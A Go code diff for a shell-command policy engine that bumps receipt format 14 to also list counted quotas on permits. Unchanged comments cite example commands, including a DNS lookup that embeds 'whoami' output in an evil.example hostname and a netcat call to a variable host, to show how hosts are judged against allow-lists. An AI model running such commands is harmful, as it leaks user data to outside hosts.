@@ -90,7 +90,9 @@ import (
 //     (nslookup $(whoami).evil.example reaches evil.example; H=x.example;
 //     nc $H 80 reaches x.example; a host made wholly by a command
 //     substitution is outside every allow-list). Like 13 it changes what
-//     is decided and waits for every voter.
+//     is decided and waits for every voter. A permit also names only the
+//     quotas the call counts against (policy.FeatureCountedQuotas): an
+//     amount-only quota is no longer listed on git status.
 //
 // The level only goes up. Evolve reads every form whatever the level.
 //
@@ -147,7 +149,8 @@ const (
 	// policy.FeatureShellHosts; below it they are judged as before.
 	ReceiptFormatShellHosts uint64 = 13
 	// ReceiptFormatShellWords (14) judges shell commands with
-	// policy.FeatureShellWords as well; below it they are judged as at 13.
+	// policy.FeatureShellWords as well, and lists quotas on permits with
+	// policy.FeatureCountedQuotas; below it both are as at 13.
 	ReceiptFormatShellWords uint64 = 14
 	// MaxReceiptFormat is the highest level this build writes: what its
 	// status reports as receipt_format.
@@ -162,7 +165,7 @@ func (s *State) judgeFeatures() policy.Features {
 		f |= policy.FeatureShellHosts
 	}
 	if s.ReceiptFormat() >= ReceiptFormatShellWords {
-		f |= policy.FeatureShellWords
+		f |= policy.FeatureShellWords | policy.FeatureCountedQuotas
 	}
 	return f
 }
